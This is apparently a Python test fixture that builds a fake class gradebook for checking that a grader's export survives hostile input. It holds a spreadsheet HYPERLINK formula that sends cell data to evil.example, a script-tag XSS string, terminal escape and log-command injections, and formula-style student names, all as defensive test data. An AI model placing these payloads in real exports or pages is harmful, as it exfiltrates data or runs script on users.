"""A class with everything that an export has to survive: hostile names, every kind of verdict, a group, a gate."""

from __future__ import annotations

from dataclasses import replace

from exported_results import EXAMPLE, WRONG

from grader.class_result import Attempt, ClassResult, Grade, Student
from grader.result import CheckResult, Message, Result, TaskResult, Tier, Verdict
from grader.speed_result import Bar, SpeedResult

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

GATE = SpeedResult(
    group="2.2 quantized matmul",
    label="M = 1, bfloat16",
    verdict="PASS",
    unit="time",
    against="rung 2",
    threshold=1.15,
    wall=(0.8765, 0.85, 0.9),
    cpu=(0.88, 0.86, 0.9),
    bars=(Bar("yours", 1e-3, 9e-4, 1.1e-3),),
)


def check(name: str, verdict: Verdict, points: float, of: float, **more: object) -> CheckResult:
    """Return a check of one case."""
    made = CheckResult(name, f"{name} holds", Tier.CORE, verdict, points, of, int(points == of), 1)
    return replace(made, **more)  # type: ignore[arg-type]


def task(number: str, verdict: Verdict, *checks: CheckResult, reason: str = "") -> TaskResult:
    """Return a task of these checks."""
    core = [c for c in checks if c.tier is Tier.CORE]
    edge = [c for c in checks if c.tier is Tier.EDGE]
    return TaskResult(
        number,
        f"Task {number}",
        int(number[2]),
        verdict,
        sum(c.points for c in core),
        sum(c.max_points for c in core),
        sum(c.points for c in edge),
        sum(c.max_points for c in edge),
        checks,
        reason=reason,
    )


ERROR = Message("grader-error", "matmul", "a verdict", "the grader failed with OSError")
HOSTILE = replace(
    WRONG, got="\x1b[31m<script>alert(1)</script>]]>\x00\ufffe \u202etxt\n::error::x ##[error]y"
)

EVERYTHING: Result = replace(
    EXAMPLE,
    week=2,
    title="Week 2: a tiny vLLM",
    seconds=61.4,
    tasks=(
        task(
            "2.2",
            Verdict.PASS,
            check("values", Verdict.PASS, 4.0, 4.0),
            check("fast", Verdict.PASS, 2.0, 2.0, speed=GATE, seconds=1.25),
            check("extra", Verdict.PASS, 0.5, 0.5, tier=Tier.EDGE),
            check("style", Verdict.FAIL, 0.0, 0.0, tier=Tier.STYLE, message=WRONG),
        ),
        task("2.1", Verdict.FAIL, check("values", Verdict.FAIL, 0.0, 3.0, message=HOSTILE)),
        task(
            "2.3",
            Verdict.SKIPPED,
            check("values", Verdict.SKIPPED, 0.0, 3.0),
            reason="needs 2.1, which failed",
        ),
        task(
            "2.4",
            Verdict.INCONCLUSIVE,
            check("slow", Verdict.INCONCLUSIVE, 1.0, 1.0),
            reason="it could not be",
        ),
        task(
            "2.5", Verdict.ERROR, check("values", Verdict.ERROR, 0.0, 1.5, message=ERROR), reason="it failed"
        ),
        task("2.6", Verdict.SKIPPED, reason="needs a Mac"),
    ),
    days={1: "One", 2: "Two", 3: "Three", 4: "Four", 5: "Five", 6: "Six"},
    selected=(),
)


def attempt(student: str, number: int, result: Result | None = EXAMPLE, **more: object) -> Attempt:
    """Return an attempt in the evening of a day of its own."""
    made = Attempt(student, number, f"{student}-{number}.zip", f"2026-03-0{number}T20:00:00Z", result)
    return replace(made, **more)  # type: ignore[arg-type]


FIRST, SECOND = attempt("1001", 1), attempt("1001", 2, EVERYTHING, days_late=1)
BROKEN = attempt("1004", 1, None, problem="the archive is corrupt", fault="submission")
SHARED = attempt("1002", 1)

CLASS = ClassResult(
    run_id="0003",
    title="Week 2: a tiny vLLM",
    week=2,
    max_points=100.0,
    grades=(
        Grade(
            Student("1001", 'Núñez, "Ada"', "ada@school.example", "A", "", "s001"),
            (FIRST, SECOND),
            SECOND,
            92.25,
            3.0,
            5.0,
            90.25,
            ("one day late: 5 points off",),
        ),
        Grade(Student("1002", FORMULA, group="g1"), (SHARED,), SHARED, 50.0, 0.0, 0.0, 50.0),
        Grade(Student("1003", "王小明", group="g1"), (SHARED,), SHARED, 50.0, 0.0, 0.0, 50.0),
        Grade(Student("1004", "O'Brien; =1+1\nsecond line"), (BROKEN,), BROKEN),
        Grade(Student("1005", "Nobody")),
        Grade(
            Student("1006", "@Pending"),
            (attempt("1006", 1),),
            attempt("1006", 1),
            2.0,
            total=2.0,
            pending="look",
        ),
    ),
)
